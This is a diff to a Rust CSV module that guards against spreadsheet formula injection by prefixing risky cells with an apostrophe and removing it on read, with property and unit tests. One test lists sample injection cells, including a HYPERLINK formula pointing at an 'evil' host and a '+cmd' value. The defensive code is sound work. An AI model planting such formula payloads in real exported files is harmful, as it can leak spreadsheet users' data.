@@ -1,6 +1,8 @@
 //! Tables as spreadsheets write them (RFC 4180): fields apart by a mark, in quotes where they hold the mark, a quote or
 //! the end of a line.
 
+use std::borrow::Cow;
+
 /// One record and where it begins.
 #[derive(Debug, Clone, PartialEq, Eq)]
 pub(super) struct CsvRecord {
@@ -37,7 +39,7 @@ fn record(text: &str, mark: char) -> (Vec<String>, usize) {
             let end = rest.find([mark, '\n']).unwrap_or(rest.len());
             (rest.get(..end).unwrap_or_default().trim_end_matches('\r').to_owned(), end)
         });
-        fields.push(field);
+        fields.push(of_text(field));
         at += used;
         match text.get(at..).and_then(|rest| rest.chars().next()) {
             Some('\n') => return (fields, at + 1),
@@ -68,16 +70,36 @@ fn quoted(text: &str, mark: char) -> Option<(String, usize)> {
     None
 }
 
-/// One line of a table, with its end.
+/// One line of a table, with its end. What a spreadsheet would calculate is written as the text that it is.
 pub(super) fn line(fields: &[&str]) -> String {
     let fields = fields.iter().map(|field| {
-        if field.contains([',', '"', '\n', '\r']) {
+        let field = as_text(field);
+        if field.contains([',', ';', '\t', '"', '\n', '\r']) {
             format!("\"{}\"", field.replace('"', "\"\""))
         } else {
-            (*field).to_owned()
+            field.into_owned()
         }
     });
     fields.collect::<Vec<_>>().join(",") + "\r\n"
+}
+
+/// Spreadsheets take a cell that begins so as a formula, and run it.
+const FORMULA: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+/// Spreadsheets take what stands behind it as text, and do not show it.
+const TEXT: char = '\'';
+
+/// The field with the mark of a text where it would be a formula, or where the mark would be taken off again.
+fn as_text(field: &str) -> Cow<'_, str> {
+    let is_taken = |field: &str| field.starts_with(FORMULA) || field.starts_with(TEXT);
+    if is_taken(field) { Cow::Owned(format!("{TEXT}{field}")) } else { Cow::Borrowed(field) }
+}
+
+/// The field without the mark that [`line`] puts before a text.
+fn of_text(field: String) -> String {
+    match field.strip_prefix(TEXT) {
+        Some(rest) if rest.starts_with(FORMULA) || rest.starts_with(TEXT) => rest.to_owned(),
+        _ => field,
+    }
 }
 
 #[cfg(test)]
@@ -103,9 +125,19 @@ mod tests {
         assert_eq!(found[1].1, ["c", "d"]);
     }
 
+    #[test]
+    fn nothing_that_is_written_is_a_formula() {
+        for cell in ["=HYPERLINK(\"http://evil\"&A1)", "@SUM(A1)", "+1+cmd", "-2+3", "\t=1", "'=1", "''"] {
+            let text = line(&[cell, "a"]);
+            assert!(text.trim_start_matches('"').starts_with('\''), "{text}");
+            assert_eq!(fields(&text)[0].1, [cell, "a"]);
+        }
+        assert_eq!(fields("'tis,2\n")[0].1, ["'tis", "2"], "a mark that stands for itself");
+    }
+
     proptest! {
         #[test]
-        fn what_is_written_is_read(table in prop::collection::vec(prop::collection::vec("[a-z,\"\n\r é价]{0,8}", 1..5), 0..6)) {
+        fn what_is_written_is_read(table in prop::collection::vec(prop::collection::vec("[a-z,\"\n\r é价=+@'-]{0,8}", 1..5), 0..6)) {
             let text: String =
                 table.iter().map(|row| line(&row.iter().map(String::as_str).collect::<Vec<_>>())).collect();
             let found: Vec<Vec<String>> = records(&text, ',').into_iter().map(|record| record.fields).collect();
